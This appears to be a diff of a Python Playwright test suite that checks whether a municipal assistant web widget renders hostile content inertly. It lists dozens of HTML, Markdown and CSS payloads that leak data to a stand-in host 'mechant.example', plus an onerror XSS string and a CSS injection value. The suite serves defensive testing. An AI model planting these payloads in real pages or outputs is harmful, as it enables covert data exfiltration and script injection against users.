@@ -10,16 +10,19 @@ from xss_payloads import PAYLOADS
 pytestmark = [pytest.mark.slow, pytest.mark.network]
 LEAK = "https://mechant.example/vol?q=secret"
 EXFILTRATION = (
-    f"![]({LEAK})", f"![x][1]\n\n[1]: {LEAK}", f"<img src={LEAK}>", f"<img srcset='{LEAK} 1x'>", f"<link rel=prefetch href={LEAK}>",
-    f"<link rel=dns-prefetch href={LEAK}>", f"<iframe src={LEAK}></iframe>", f"<video poster={LEAK}>", f"<audio src={LEAK} autoplay>",
-    f"<object data={LEAK}>", f"<embed src={LEAK}>", f"<style>@import '{LEAK}'</style>", f"<p style='background:url({LEAK})'>x</p>",
-    f"<svg><image href={LEAK}></svg>", f"<script src={LEAK}></script>", f"<meta http-equiv=refresh content='0;url={LEAK}'>",
-    f"<form action={LEAK}><input autofocus></form>", f"<body background={LEAK}>", f"[ici]({LEAK})", f"Voyez {LEAK} tout de suite",
-    f"<input type=image src={LEAK}>", f"<track src={LEAK}>", f"<a href={LEAK} ping={LEAK}>x</a>",
+    f"![]({LEAK})", f"![x][1]\n\n[1]: {LEAK}", f"<img src={LEAK}>", f"<img srcset='{LEAK} 1x'>",
+    f"<link rel=prefetch href={LEAK}>", f"<link rel=dns-prefetch href={LEAK}>", f"<iframe src={LEAK}></iframe>",
+    f"<video poster={LEAK}>", f"<audio src={LEAK} autoplay>", f"<object data={LEAK}>", f"<embed src={LEAK}>",
+    f"<style>@import '{LEAK}'</style>", f"<p style='background:url({LEAK})'>x</p>",
+    f"<svg><image href={LEAK}></svg>", f"<script src={LEAK}></script>",
+    f"<meta http-equiv=refresh content='0;url={LEAK}'>", f"<form action={LEAK}><input autofocus></form>",
+    f"<body background={LEAK}>", f"[ici]({LEAK})", f"Voyez {LEAK} tout de suite", f"<input type=image src={LEAK}>",
+    f"<track src={LEAK}>", f"<a href={LEAK} ping={LEAK}>x</a>",
 )  # fmt: skip
 PARTS = 4
 ADDRESSES = """() => [...document.querySelector('commune-assistant').shadowRoot.querySelectorAll('*')]
-  .flatMap((one) => [...one.attributes].filter(({name}) => /^(href|src|action|formaction|data|srcdoc|style|on.*)$/.test(name))
+  .flatMap((one) => [...one.attributes]
+  .filter(({name}) => /^(href|src|action|formaction|data|srcdoc|style|on.*)$/.test(name))
   .map(({name, value}) => [one.localName, name, value]))"""
 
 
@@ -29,7 +32,8 @@ def hostile(text: str):
         text=f"{text}\n\n- {text} [1]\n\n**{text}**", question=text, suggestions=[text], language="fr",
         citations=[citation(1, title=text, quote=text, publisher=text, url=text, passage_id=text, section=text)],
         contacts=[CONTACT.model_copy(update={
-            "name": text, "phone": text, "email": text, "address": text, "hours": text, "next_opening": text, "url": text,
+            "name": text, "phone": text, "email": text, "address": text, "hours": text,
+            "next_opening": text, "url": text,
         })],
     )  # fmt: skip
 
@@ -41,7 +45,8 @@ def show(widget, api, texts) -> None:
         article = widget.ask("Question", ".sources")
         article.locator(".source").click()
     widget.page.evaluate(
-        """() => { for (const one of document.querySelector('commune-assistant').shadowRoot.querySelectorAll('article *')) {
+        """() => { const root = document.querySelector('commune-assistant').shadowRoot;
+        for (const one of root.querySelectorAll('article *')) {
         one.dispatchEvent(new MouseEvent('mouseover', {bubbles: true})); one.focus?.() } }"""
     )
     widget.page.wait_for_timeout(100)
@@ -77,7 +82,8 @@ def test_exfiltration_asks_nothing_of_anybody(widget, api):
 def test_a_hostile_card_of_the_commune_runs_nothing(new_page, api):
     text = "</style><img src=x onerror=alert(1)>"
     api.site = SITE.model_copy(update={
-        "name": text, "banner": text, "notice": text, "privacy": text, "primary": "red;} *{display:none", "accent_dark": "url(https://mechant.example)",
+        "name": text, "banner": text, "notice": text, "privacy": text,
+        "primary": "red;} *{display:none", "accent_dark": "url(https://mechant.example)",
         "suggestions": {"resident": (text,)},
     })  # fmt: skip
     widget = new_page().visit(api.url).open()
